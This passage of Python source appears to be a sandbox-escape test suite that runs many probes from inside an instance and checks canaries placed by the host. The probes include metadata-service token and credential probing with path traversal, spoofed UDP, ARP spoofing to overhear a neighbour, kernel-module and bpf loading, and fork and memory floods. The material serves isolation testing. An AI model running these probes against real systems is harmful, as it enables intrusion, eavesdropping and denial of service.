    except OSError:
        os.kill(target, 0)
        return f"process {target} of the host takes signals"
    return name if "canary" in name else None


@attempt("signals")
def a_priority_of_the_hosts():
    os.setpriority(os.PRIO_USER, 0, -20)
    return "priority -20 for all processes of root"


@attempt("signals")
def a_schedule_in_real_time():
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))
    return "SCHED_FIFO"


# --- sockets ---------------------------------------------------------------

@attempt("sockets")
def abstract_sockets_of_the_host():
    def look(name):
        with socket.socket(socket.AF_UNIX) as stream:
            stream.settimeout(2)
            stream.connect("\0" + name)
            return is_canary(stream.recv(100)) or f"connected to {name}"
    return first(canary("abstract"), look)


@attempt("sockets")
def named_sockets_of_the_host():
    def look(path):
        with socket.socket(socket.AF_UNIX) as stream:
            stream.settimeout(2)
            stream.connect(path)
            return is_canary(stream.recv(100)) or f"connected to {path}"
    prefixes = ["", "/proc/1/root", "/proc/1/cwd/../.."]
    return first([prefix + path for path in canary("sockets") for prefix in prefixes], look)


@attempt("sockets")
def known_sockets_of_services():
    def look(path):
        with socket.socket(socket.AF_UNIX) as stream:
            stream.settimeout(2)
            stream.connect(path)
            return path
    return first(["/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket",
                  "/run/systemd/private", "/run/podman/podman.sock", "/run/snapd.socket", "/run/libvirt/libvirt-sock"], look)


NLM_REQUEST, NLM_ACK, NLM_CREATE, NLM_EXCL, NLM_DUMP = 1, 4, 0x400, 0x200, 0x300


def netlink(family, kind, flags, payload):
    """Sends one request. Raises the error that the kernel returns."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, family) as link:
        link.settimeout(2)
        link.bind((0, 0))
        head = struct.pack("IHHII", 16 + len(payload), kind, flags | NLM_REQUEST | NLM_ACK, 1, 0)
        link.send(head + payload)
        answer = link.recv(65536)
    if struct.unpack_from("H", answer, 4)[0] == 2:
        code = -struct.unpack_from("i", answer, 16)[0]
        if code:
            raise OSError(code, os.strerror(code))
    return answer


def attribute(kind, data):
    length = 4 + len(data)
    return struct.pack("HH", length, kind) + data + b"\0" * (-length % 4)


@attempt("sockets")
def routes():
    """Adds a default route over the first interface."""
    message = struct.pack("BBBBBBBBI", socket.AF_INET, 0, 0, 0, 254, 4, 253, 1, 0)
    index = struct.pack("i", outer_interface()[1])
    netlink(0, 24, NLM_CREATE | NLM_EXCL, message + attribute(4, index))
    return "a default route was added"


@attempt("sockets")
def rules_of_the_firewall():
    """Adds a table to nftables."""
    begin = struct.pack("IHHII", 20, 16, 1, 0, 0) + struct.pack("BBH", 0, 0, socket.htons(10))
    table = struct.pack("BBH", 2, 0, 0) + attribute(1, b"escape\0")
    make = struct.pack("IHHII", 16 + len(table), (10 << 8) | 0, NLM_REQUEST | NLM_ACK | NLM_CREATE, 1, 0) + table
    end = struct.pack("IHHII", 20, 17, 1, 2, 0) + struct.pack("BBH", 0, 0, socket.htons(10))
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as link:
        link.settimeout(2)
        link.bind((0, 0))
        link.send(begin + make + end)
        answer = link.recv(65536)
    code = -struct.unpack_from("i", answer, 16)[0]
    if code:
        raise OSError(code, os.strerror(code))
    return "a table was made"


@attempt("sockets")
def new_interface():
    message = struct.pack("BxHiII", 0, 0, 0, 0, 0)
    info = attribute(1, b"dummy")
    netlink(0, 16, NLM_CREATE | NLM_EXCL, message + attribute(3, b"escape0\0") + attribute(18, info))
    return "a dummy interface"


@attempt("sockets")
def interface_in_another_namespace():
    """Moves an interface to the network namespace of pid 1's parent, and creates
    a peer there."""
    name, index = outer_interface()
    netlink(0, 16, 0, struct.pack("BxHiII", 0, 0, index, 0, 0) + attribute(19, struct.pack("I", 1)))
    return f"{name} was moved"


@attempt("sockets")
def audit_of_the_kernel():
    """Sends AUDIT_GET and joins a multicast group of kernel messages."""
    answer = netlink(9, 1000, 0, b"")
    return struct.unpack_from("H", answer, 4)[0] == 1000 and "status of the audit system" or None


@attempt("sockets")
def events_of_devices():
    """Sends an event in the kernel's format, which udev on the host would read."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15) as link:
        link.bind((0, 1))
        link.sendto(b"add@/devices/escape\0ACTION=add\0", (0, 1))
    return "an event was sent"


@attempt("sockets")
def sockets_of_odd_families():
    families = {"AF_ALG": 38, "AF_VSOCK": 40, "AF_KEY": 15, "AF_RDS": 21, "AF_TIPC": 30, "AF_CAN": 29,
                "AF_BLUETOOTH": 31, "AF_NFC": 39, "AF_X25": 9, "AF_SMC": 43, "AF_XDP": 44, "AF_PPPOX": 24,
                "AF_KCM": 41, "AF_QIPCRTR": 42, "AF_AX25": 3, "AF_APPLETALK": 5, "AF_RXRPC": 33, "AF_LLC": 26}
    open_ones = []
    for name, number in families.items():
        for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
            try:
                socket.socket(number, kind).close()
            except OSError:
                continue
            open_ones.append(name)
            break
    return ", ".join(open_ones) or None


# --- kernel ----------------------------------------------------------------

class Bytes64(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint8 * 128)]


@attempt("kernel")
def programs_in_the_kernel():
    """Creates a map, and the smallest program: `r0 = 0; exit`."""
    entry = Bytes64()
    struct.pack_into("IIII", entry, 0, 2, 4, 8, 1)
    try:
        return f"a map of bpf: {call('bpf', 0, entry, 72)}"
    except OSError:
        pass
    code = ctypes.create_string_buffer(struct.pack("QQ", 0xB7, 0x95))
    text = ctypes.create_string_buffer(b"GPL")
    entry = Bytes64()
    struct.pack_into("IIQQ", entry, 0, 1, 2, ctypes.addressof(code), ctypes.addressof(text))
    return f"a program of bpf: {call('bpf', 5, entry, 72)}"


def events(pid, cpu, exclude):
    entry = Bytes64()
    struct.pack_into("IIQ", entry, 0, 1, 120, 0)
    struct.pack_into("Q", entry, 40, exclude)
    return call("perf_event_open", entry, pid, cpu, -1, 0)


@attempt("kernel")
def events_of_all_processes():
    return f"perf of processor 0: {events(-1, 0, 0)}"


@attempt("kernel")
def events_of_the_own_process():
    return f"perf of this process: {events(0, -1, 1 << 5)}"


@attempt("kernel")
def io_uring():
    return f"a ring: {call('io_uring_setup', 4, Bytes64())}"


@attempt("kernel")
def page_faults_handled_by_a_program():
    return f"userfaultfd: {call('userfaultfd', 0)}"


@attempt("kernel")
def kexec_of_another_kernel():
    call("kexec_load", 0, 0, None, 0)
    return "kexec_load"


@attempt("kernel")
def modules():
    """Loads empty modules: with the permission, the error would be a different
    one."""
    def look(load):
        try:
            load()
        except OSError as error:
            if error.errno in (errno.ENOEXEC, errno.EINVAL, errno.EFAULT, errno.EBADF):
                return f"permitted: {error.strerror}"
            raise
        return "loaded"
    return first([
        lambda: call("init_module", b"\0" * 64, 64, ""),
        lambda: call("finit_module", os.open("/etc/hostname", os.O_RDONLY), "", 0),
    ], look)


@attempt("kernel")
def a_module_removed():
    try:
        call("delete_module", "escape_has_no_such_module", 0x800)
    except OSError as error:
        if error.errno == errno.ENOENT:
            return "permitted"
    return None


@attempt("kernel")
def swap_space():
    path = os.path.join(scratch(), "swap")
    size = 16 * mmap.PAGESIZE
    with open(path, "wb") as file:
        page = bytearray(size)
        struct.pack_into("III", page, 1024, 1, 15, 0)
        page[mmap.PAGESIZE - 10:mmap.PAGESIZE] = b"SWAPSPACE2"
        file.write(page)
    os.chmod(path, 0o600)
    try:
        call("swapon", path, 0)
    except OSError as error:
        return "permitted" if error.errno == errno.EINVAL else None
    return "swapon"


@attempt("kernel")
def process_accounting():
    path = os.path.join(scratch(), "acct")
    open(path, "w").close()
    call("acct", path)
    call("acct", None)
    return "acct"


@attempt("kernel")
def quotas_of_disks():
    """Changes the quota of user 1 on the disk of the root directory."""
    call("quotactl_fd", os.open("/", os.O_RDONLY), 0x800007 << 8, 1, Bytes64())
    return "the quota of another user"


@attempt("kernel")
def the_clock():
    now = time.time()
    time.clock_settime(time.CLOCK_REALTIME, now)
    return "clock_settime"


@attempt("kernel")
def the_time_of_day():
    now = time.time()
    call("settimeofday", ctypes.c_longlong.from_buffer(bytearray(struct.pack("qq", int(now), 0))), None)
    return "settimeofday"


@attempt("kernel")
def the_speed_of_the_clock():
    timex = (ctypes.c_long * 26)()
    timex[0] = 0x4000  # ADJ_TICK
    timex[11] = 10000
    call("adjtimex", timex)
    return "adjtimex"


@attempt("kernel")
def a_reboot_of_the_host():
    """Enables Ctrl-Alt-Del, which is its default."""
    call("reboot", 0xFEE1DEAD, 0x28121969, 0x89ABCDEF, None)
    return "reboot(CAD_ON)"


@attempt("kernel")
def ports_of_the_processor():
    def look(name):
        call(name, 3) if name == "iopl" else call(name, 0x80, 1, 1)
        return name
    return first(["iopl", "ioperm"], look)


@attempt("kernel")
def messages_of_the_kernel():
    buffer = ctypes.create_string_buffer(4096)
    length = call("syslog", 3, buffer, 4096)
    return f"{length} bytes of the kernel's messages"


@attempt("kernel")
def the_log_level_of_the_host():
    call("syslog", 8, None, 7)
    return "console level"


@attempt("kernel")
def a_watch_on_all_files():
    fd = call("fanotify_init", 4, os.O_RDONLY)
    return f"fanotify with permission events: {fd}"


@attempt("kernel")
def the_name_of_the_host():
    """A host name set here must change only this instance's name."""
    before = socket.gethostname()
    try:
        socket.sethostname("escape-canary")
    finally:
        socket.sethostname(before)
    return None


@attempt("kernel")
def a_personality_without_randomness():
    """ADDR_NO_RANDOMIZE is harmless, but READ_IMPLIES_EXEC with set-id programs
    is not."""
    call("personality", 0x0400000)
    os.execv("/bin/sh", ["sh", "-c", "exit 0"])


@attempt("kernel")
def hung_terminals():
    call("vhangup")
    return "vhangup"


def machine_code(code, argument=0):
    area = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    area.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(area))
    return ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(address)(argument)


def ia32(number, first_argument):
    """Makes a 32-bit system call: push rbx; mov eax, N; mov ebx, edi; int 0x80;
    pop rbx; ret."""
    if ARM:
        raise Unavailable("not on this processor")
    code = b"\x53\xb8" + struct.pack("I", number) + b"\x89\xfb\x31\xc9\x31\xd2\xcd\x80\x5b\xc3"
    return machine_code(code, first_argument)


@attempt("kernel")
def namespaces_by_calls_of_32_bits():
    if ia32(20, 0) != os.getpid():
        return None
    return "unshare by int 0x80" if ia32(310, NEW["user"]) == 0 else None


@attempt("kernel")
def clock_and_modules_by_calls_of_32_bits():
    if ia32(20, 0) != os.getpid():
        return None
    # delete_module(NULL): EPERM without the permission, EFAULT with it.
    return "delete_module by int 0x80" if ia32(129, 0) == -errno.EFAULT else None


@attempt("kernel")
def namespaces_by_calls_of_x32():
    if ARM:
        raise Unavailable("not on this processor")
    raw(0x40000000 | 272, NEW["user"])
    return "unshare by x32"


@attempt("kernel")
def memory_at_address_zero():
    LIBC.mmap.restype = ctypes.c_void_p
    result = LIBC.mmap(ctypes.c_void_p(0), ctypes.c_size_t(4096), 3, 0x32, -1, ctypes.c_long(0))
    return "mapped" if result in (0, None) else None


# --- metadata --------------------------------------------------------------

METADATA = "169.254.169.254"


def ask(method, path, headers=None, host=METADATA, port=80):
    link = http.client.HTTPConnection(host, port, timeout=3)
    try:
        link.request(method, path, headers=headers or {})
        answer = link.getresponse()
        return answer.status, answer.read(MIB).decode(errors="replace")
    except http.client.HTTPException:
        raise OSError("no HTTP response") from None
    finally:
        link.close()


def token(headers=None):
    status, text = ask("PUT", "/latest/api/token",
                       {"X-aws-ec2-metadata-token-ttl-seconds": "60", **(headers or {})})
    if status != 200:
        raise OSError(f"status {status}")
    return text


def peers(answer):
    """Whether a response is about the neighbour."""
    peer = canary("peer")
    return first([peer["id"], peer["address"]], lambda word: word in answer and word)


def asked_as_peer(headers):
    key = {"X-aws-ec2-metadata-token": token()}
    for path in ["/latest/meta-data/instance-id", "/latest/meta-data/local-ipv4", "/latest/user-data"]:
        status, text = ask("GET", path, {**key, **headers})
        if status == 200 and (peers(text) or is_canary(text)):
            return f"{path}: {text[:60]}"
    return None


@attempt("metadata")
def another_instance_by_a_header():
    peer = canary("peer")["address"]
    headers = ["X-Forwarded-For", "X-Real-IP", "Forwarded", "X-Client-IP", "X-Originating-IP", "Host"]
    return first(headers, lambda name: asked_as_peer({name: peer}))


@attempt("metadata")
def a_token_by_a_forwarded_request():
    got = token({"X-Forwarded-For": "192.0.2.7"})
    return f"a token: {got[:6]}..."


@attempt("metadata")
def a_token_of_another_instance():
    status, text = ask("GET", "/latest/meta-data/instance-id",
                       {"X-aws-ec2-metadata-token": canary("peer")["token"]})
    return f"accepted: {text}" if status == 200 else None


@attempt("metadata")
def metadata_without_a_token():
    status, text = ask("GET", "/latest/meta-data/instance-id")
    return text if status == 200 else None


@attempt("metadata")
def metadata_above_its_root():
    key = {"X-aws-ec2-metadata-token": token()}
    paths = ["/latest/../../etc/shadow", "/latest/%2e%2e/%2e%2e/etc/passwd", "//etc/passwd",
             "/latest/meta-data/%00", "/_autorun/status", "/latest/meta-data/iam/security-credentials/",
             "/latest/dynamic/instance-identity/../../../.."]

    def look(path):
        status, text = ask("GET", path, key)
        return (is_canary(text) or "root:" in text or "AccessKey" in text) and f"{path}: {status}"
    return first(paths, look)


@attempt("metadata")
def tokens_of_others_evicted():
    """Requests many tokens. The host's owner checks that the neighbour's token is
    still valid."""
    end = time.monotonic() + 8
    for _ in range(3000):
        if time.monotonic() > end:
            break
        try:
            token()
        except OSError:
            pass
    return None


@attempt("metadata")
def the_service_blocked():
    """Opens many connections with half requests. Another request must still be
    answered."""
    held = []
    for _ in range(700):
        try:
            link = socket.create_connection((METADATA, 80), timeout=1)
        except OSError:
            break
        link.send(b"GET / HTTP/1.1\r\n")
        held.append(link)
    # The host's owner checks the neighbour's response.
    return None


# --- network ---------------------------------------------------------------

def outer_interface():
    for index, name in socket.if_nameindex():
        if name != "lo":
            return name, index
    raise Unavailable("no interface")


def own_address():
    name, _ = outer_interface()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        answer = fcntl.ioctl(any_socket, 0x8915, struct.pack("256s", name.encode()))
    return socket.inet_ntoa(answer[20:24])


def reached(address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as stream:
        stream.settimeout(1)
        stream.connect((address, port))
        stream.send(b"escape\n")
        got = is_canary(stream.recv(100))
        return got and f"{address} port {port}: {got}"


@attempt("network")
def services_of_the_host_at_the_gateway():
    service = canary("service")
    return reached(service["gateway"], service["port"])


@attempt("network")
def services_of_the_host_at_its_addresses():
    service = canary("service")
    return first(service["addresses"][:6], lambda address: reached(address, service["port"]))


@attempt("network")
def services_on_the_hosts_own_address():
    port = canary("service")["loopback_port"]
    return first(["127.0.0.1", "::1", "127.0.1.1"], lambda address: reached(address, port))


def through_proxy(target, connect):
    with socket.create_connection(("127.0.0.1", 3128), timeout=3) as stream:
        if connect:
            stream.send(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
            answer = stream.recv(4096)
            if b" 200 " in answer.split(b"\r\n")[0]:
                stream.send(b"escape\n")
                answer += stream.recv(4096)
        else:
            stream.send(f"GET http://{target}/ HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\n\r\n".encode())
            answer = b""
            while len(answer) < 65536 and (more := stream.recv(4096)):
                answer += more
    return is_canary(answer)


def targets():
    service = canary("service")
    port, loopback = service["port"], service["loopback_port"]
    hosts = [service["gateway"], *service["addresses"][:3], "0.0.0.0"]
    return [f"{host}:{port}" for host in hosts] + [
        f"{host}:{loopback}" for host in
        ["127.0.0.1", "localhost", "[::1]", "0.0.0.0", "127.1", "2130706433", "[::ffff:127.0.0.1]"]]


@attempt("network", limit=40)
def services_of_the_host_by_the_proxy():
    return first(targets(), lambda target: through_proxy(target, False))


@attempt("network", limit=40)
def services_of_the_host_by_the_proxys_tunnel():
    return first(targets(), lambda target: through_proxy(target, True))


@attempt("network")
def metadata_of_the_host_by_the_proxy():
    with socket.create_connection(("127.0.0.1", 3128), timeout=3) as stream:
        stream.send(b"GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n"
                    b"Connection: close\r\n\r\n")
        line = stream.recv(4096).split(b"\r\n")[0]
    return line.decode() if b" 200 " in line or b" 401 " in line else None


@attempt("network")
def a_way_around_the_proxy():
    return first([("1.1.1.1", 443), ("8.8.8.8", 53), ("192.0.2.1", 80)],
                 lambda target: socket.create_connection(target, timeout=2) and f"connected to {target}")


@attempt("network")
def closed_ports_of_another_instance():
    peer = canary("peer")
    return reached(peer["address"], peer["port"])


@attempt("network")
def datagrams_to_another_instance():
    """Sends datagrams. The host's owner checks that the neighbour has received
    none of them."""
    peer = canary("peer")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        for _ in range(5):
            sender.sendto(b"escape-datagram plain", (peer["address"], peer["port"]))
    return None


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    return ~((total >> 16) + (total & 0xFFFF)) & 0xFFFF


def spoofed(source, target, port, text):
    body = struct.pack("!HHHH", 4000, port, 8 + len(text), 0) + text
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, 17, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


@attempt("network")
def datagrams_from_a_false_address():
    """Sends datagrams. The host's owner checks that they did not arrive."""
    peer, service = canary("peer"), canary("service")
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
        for target, port in [(peer["address"], peer["port"]), (service["gateway"], service["udp_port"])]:
            for source in [service["gateway"], peer["address"], "8.8.8.8"]:
                if source != target:
                    try:
                        sender.sendto(spoofed(source, target, port, b"escape-datagram spoofed"), (target, 0))
                    except OSError:
                        pass
    return None


def frames(packet):
    name, _ = outer_interface()
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    link.bind((name, 0))
    own = link.getsockname()[4]
    link.send(packet(own))
    return link


@attempt("network")
def a_way_around_the_firewall_by_frames():
    """Broadcasts complete frames with false hardware and network addresses."""
    peer, service = canary("peer"), canary("service")
    packet = spoofed(service["gateway"], peer["address"], peer["port"], b"escape-datagram frame")
    frames(lambda own: b"\xff" * 6 + b"\x02\x00\x00\x00\x00\x01" + b"\x08\x00" + packet)
    frames(lambda own: b"\xff" * 6 + own + b"\x08\x00" + packet)
    return None


@attempt("network")
def traffic_of_others_overheard():
    """Captures all traffic after claiming the gateway's address."""
    peer, gateway = canary("peer"), canary("service")["gateway"]

    def claim(own):
        return b"\xff" * 6 + own + b"\x08\x06" + struct.pack(
            "!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, own, socket.inet_aton(gateway),
            b"\xff" * 6, socket.inet_aton(peer["address"]))
    link = frames(claim)
    index = outer_interface()[1]
    try:
        link.setsockopt(263, 1, struct.pack("iHH8s", index, 1, 0, b""))
    except OSError:
        pass
    link.settimeout(0.2)
    end = time.monotonic() + 4
    while time.monotonic() < end:
        frames(claim).close()
        try:
            data = link.recv(65536)
        except socket.timeout:
            continue
        if b"beat of the neighbour" in data and b"escape" not in data:
            return "the neighbour's datagrams to the gateway"
    return None


@attempt("network")
def another_address():
    """Adds the neighbour's address to the own interface."""
    peer = canary("peer")["address"]
    name, index = outer_interface()
    data = struct.pack("BBBBI", socket.AF_INET, 24, 0, 0, index) + attribute(2, socket.inet_aton(peer))
    netlink(0, 20, NLM_CREATE | NLM_EXCL, data)
    netlink(0, 21, 0, data)
    return f"{peer} on {name}"


@attempt("network")
def another_hardware_address():
    name, _ = outer_interface()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        request = struct.pack("16sH6s8x", name.encode(), 1, b"\x02\x00\x00\x00\x00\x01")
        fcntl.ioctl(any_socket, 0x8924, request)
    return "set"


@attempt("network")
def neighbours_of_the_host():
    """Entries for the gateway in the instance's own neighbour table are harmless,
    but their loss is not."""
    _, index = outer_interface()
    gateway = canary("service")["gateway"]
    data = struct.pack("BxxxiHBB", socket.AF_INET, index, 2, 0, 1)
    netlink(0, 28, NLM_CREATE, data + attribute(1, socket.inet_aton(gateway)) + attribute(2, b"\x02\0\0\0\0\1"))
    return "an entry for the gateway"


@attempt("network")
def the_clouds_interface_without_a_signature():
    endpoint = canary("endpoint")
    host, port = endpoint.rsplit(":", 1)
    status, text = ask("POST", "/", {"Content-Type": "application/x-www-form-urlencoded"}, host, int(port))
    return f"{status}: {text[:60]}" if status == 200 else None


# --- resources -------------------------------------------------------------

def marked_for_the_killer():
    try:
        with open("/proc/self/oom_score_adj", "wb", buffering=0) as file:
            file.write(b"1000")
    except OSError:
        pass


@attempt("resources", limit=60)
def memory_beyond_the_instances():
    wanted = canary("limits")["memory"] * 3 // 2
    marked_for_the_killer()
    held = []
    while sum(map(len, held)) < wanted:
        area = mmap.mmap(-1, 16 * MIB)
        for offset in range(0, len(area), 4096):
            area[offset] = 1
        held.append(area)
    return f"{wanted // MIB} MiB are in use"


@attempt("resources", limit=60)
def processes_beyond_the_instances():
    wanted = canary("limits")["tasks"]
    marked_for_the_killer()
    threading.stack_size(32768)
    wait = threading.Event()
    try:
        for _ in range(wanted):
            threading.Thread(target=wait.wait, daemon=True).start()
    except (RuntimeError, MemoryError):
        return None
    return f"{wanted} tasks at once"


@attempt("resources", limit=60)
def forks_beyond_the_instances():
    """Forks recursively, at most four levels deep."""
    wanted = canary("limits")["tasks"]
    marked_for_the_killer()
    count = mmap.mmap(-1, 8)
    made_here = []
    for _ in range(min(wanted, 3000)):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(20)
            os._exit(0)
        made_here.append(pid)
    for pid in made_here:
        os.kill(pid, signal.SIGKILL)
    for pid in made_here:
        os.waitpid(pid, 0)
    count.close()
    return f"{len(made_here)} processes at once" if len(made_here) >= wanted else None


def filled(place, wanted, allocate):
    marked_for_the_killer()
    free = os.statvfs(place)
    fd, name = tempfile.mkstemp(dir=place)
    os.unlink(name)
    block = b"\x55" * (4 * MIB)
    written = 0
    while written < wanted:
        try:
            if allocate:
                os.posix_fallocate(fd, written, 64 * MIB)
                written += 64 * MIB
            else:
                written += os.write(fd, block)
        except OSError as error:
            if error.errno in (errno.ENOSPC, errno.EDQUOT):
                return None
            raise
    return f"{written // MIB} MiB in {place} ({free.f_bavail * free.f_frsize // MIB} MiB were free)"


@attempt("resources", limit=120)
def disk_beyond_the_instances():
    return filled("/var/tmp", canary("limits")["disk"] * 5 // 4, True)


@attempt("resources", limit=60)
def temporary_files_beyond_the_memory():
    return filled("/tmp", canary("limits")["memory"] * 3 // 2, False)


@attempt("resources", limit=60)
def run_beyond_the_memory():
    return filled("/run", canary("limits")["memory"] * 3 // 2, False)


@attempt("resources", limit=60)
def shared_memory_beyond_the_memory():
    return filled("/dev/shm", canary("limits")["memory"] * 3 // 2, False)


@attempt("resources", limit=60)
def other_memory_beyond_the_memory():
    """Memory that belongs to no file or process page: pipes, memfd, sockets."""
    marked_for_the_killer()
    wanted = canary("limits")["memory"] * 3 // 2
    fd = os.memfd_create("escape")
    block, written = b"\x55" * (4 * MIB), 0
    while written < wanted:
        written += os.write(fd, block)
    return f"{written // MIB} MiB in a memfd"


@attempt("resources")
def descriptors_beyond_the_limit():
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = max(hard * 2, 1 << 20) if hard > 0 else 1 << 20
    resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, wanted))
    return f"{wanted} descriptors a process"


@attempt("resources")
def own_limits_raised():
    def look(kind):
        _, hard = resource.getrlimit(kind)
        if hard == resource.RLIM_INFINITY:
            return None
        resource.setrlimit(kind, (hard + 1, hard + 1))
        return f"limit {kind} from {hard}"
    return first([resource.RLIMIT_NPROC, resource.RLIMIT_MEMLOCK, resource.RLIMIT_SIGPENDING,
                  resource.RLIMIT_NICE, resource.RLIMIT_RTPRIO], look)


def flood(send, most):
    """Sends up to a limit or for a few seconds. The host's owner checks the cost
    on the host."""
    end = time.monotonic() + 6
    sent = 0
    while sent < most and time.monotonic() < end:
        try:
            sent += send()
        except BlockingIOError:
            time.sleep(0.001)
        except OSError as error:
            if error.errno != errno.ENOBUFS:
                raise
            time.sleep(0.001)


@attempt("resources", limit=20)
def a_flood_of_the_console():
    fd = os.open("/dev/console", os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
    flood(lambda: os.write(fd, b"flood of the console " * 180 + b"\n"), 64 * MIB)
    return None


@attempt("resources", limit=20)
def a_flood_without_line_ends():
    fd = os.open("/dev/console", os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
    flood(lambda: os.write(fd, b"x" * 4096), 32 * MIB)
    os.write(fd, b"\n")
    return None


@attempt("resources", limit=20)
def a_flood_of_the_log():
    link = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    link.setblocking(False)
    link.connect("/dev/log")
    flood(lambda: link.send(b"<13>flood of the log " * 100), 32 * MIB)
    return None


@attempt("resources", limit=30)
def a_flood_of_short_processes():
    """Pid 1 must respond while thousands of orphans end."""
    end = time.monotonic() + 4
    while time.monotonic() < end:
        pid = os.fork()
        if pid == 0:
            for _ in range(50):
                try:
                    if os.fork() == 0:
                        os._exit(0)
                except OSError:
                    break
            os._exit(0)
        os.waitpid(pid, 0)
    began = time.monotonic()
    subprocess.run(["systemctl", "is-system-running"], capture_output=True, timeout=8, check=False)
    took = time.monotonic() - began
    return f"pid 1 took {took:.1f} s to respond" if took > 5 else None


@attempt("resources", limit=20)
def the_control_socket_blocked():
    """Opens many connections with half requests. A complete request must still be
    answered."""
    held = []
    for path in glob.glob("/run/**/*", recursive=True):
        if "dev-log" in path or not os.path.exists(path) or not stat.S_ISSOCK(os.stat(path).st_mode):
            continue
        for _ in range(300):
            link = socket.socket(socket.AF_UNIX)
            link.settimeout(1)
            try:
                link.connect(path)
                link.send(b'{"tool":')
            except OSError:
                break
            held.append(link)
    began = time.monotonic()
    done = subprocess.run(["systemctl", "is-system-running"], capture_output=True, timeout=8, check=False)
    took = time.monotonic() - began
    if took > 5 or b"cannot reach" in done.stderr:
        return f"pid 1 took {took:.1f} s: {done.stderr.decode().strip()}"
    return None


@attempt("leftovers")
def a_process_that_outlives_the_instance():
    """Leaves a process behind. The host's owner looks for it after the instance
    has ended."""
    mark = CANARIES.get("leftover")
    if not mark:
        raise Unavailable("no canary `leftover`")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            null = os.open("/dev/null", os.O_RDWR)
            for fd in range(3):
                os.dup2(null, fd)
            # The kernel closes the other descriptors here: the parent must see
            # the end of its pipe.
            os.closerange(3, 1024)
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)", mark])
        os._exit(0)
    return None


@attempt("leftovers")
def a_process_that_is_stopped():
    """A stopped process must not delay the end of the instance."""
    mark = CANARIES.get("leftover")
    if not mark:
        raise Unavailable("no canary `leftover`")
    pid = os.fork()
    if pid == 0:
        os.setsid()
        null = os.open("/dev/null", os.O_RDWR)
        for fd in range(3):
            os.dup2(null, fd)
        os.closerange(3, 1024)
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)", mark])
    time.sleep(0.3)
    os.kill(pid, signal.SIGSTOP)
    return None


# --- what must work --------------------------------------------------------

def run(*args, user=None, timeout=150, env=None):
    """Runs a program that must succeed. Returns its output."""
    command = list(args)
    if user:
        command = ["setpriv", f"--reuid={user}", f"--regid={user}", "--clear-groups", *command]
    done = subprocess.run(command, capture_output=True, timeout=timeout, check=False, stdin=subprocess.DEVNULL,
                          env={**os.environ, "DEBIAN_FRONTEND": "noninteractive", **proxies(), **(env or {})})
    if done.returncode:
        result = (done.stderr or done.stdout).decode(errors="replace").strip().splitlines()
        raise AssertionError(f"`{' '.join(args)}` ended with {done.returncode}: {' / '.join(result[-3:])}")
    return done.stdout.decode(errors="replace").strip()


def proxies():
    found = {}
    for line in try_read("/etc/environment").decode(errors="replace").splitlines():
        name, _, value = line.partition("=")
        if name.lower().endswith("_proxy"):
            found[name] = value.strip('"')
    return found


def expect(got, wanted):
    if got != wanted:
        raise AssertionError(f"{got!r} instead of {wanted!r}")


def needs(program):
    if not shutil.which(program):
        raise Unavailable(f"no `{program}` here")


@works
def install_with_maintainer_scripts():
    needs("apt-get")
    run("apt-get", "update")
    run("apt-get", "install", "-y", "nginx")
    expect(run("dpkg", "--audit"), "")


@works
def start_and_enable_of_a_service():
    run("systemctl", "enable", "--now", "nginx")
    expect(run("systemctl", "is-active", "nginx"), "active")
    expect(run("systemctl", "is-enabled", "nginx"), "enabled")
    with socket.create_connection(("127.0.0.1", 80), timeout=5) as stream:
        stream.send(b"GET / HTTP/1.0\r\n\r\n")
        expect(stream.recv(12), b"HTTP/1.1 200")
    run("systemctl", "restart", "nginx")


@works
def reinstall_of_packages_with_set_id_and_capabilities():
    needs("apt-get")
    run("apt-get", "install", "-y", "--reinstall", "sudo", "iputils-ping", "libcap2-bin")


@works
def sudo_of_the_login_user():
    expect(run("su", "ec2-user", "-s", "/bin/sh", "-c", "sudo -n id -un"), "root")


@works
def su_with_a_login_shell():
    expect(run("su", "-", "ec2-user", "-c", "id -un"), "ec2-user")


@works
def a_new_user():
    run("useradd", "-m", "-s", "/bin/sh", "escapee")
    try:
        expect(run("su", "-", "escapee", "-c", "pwd"), "/home/escapee")
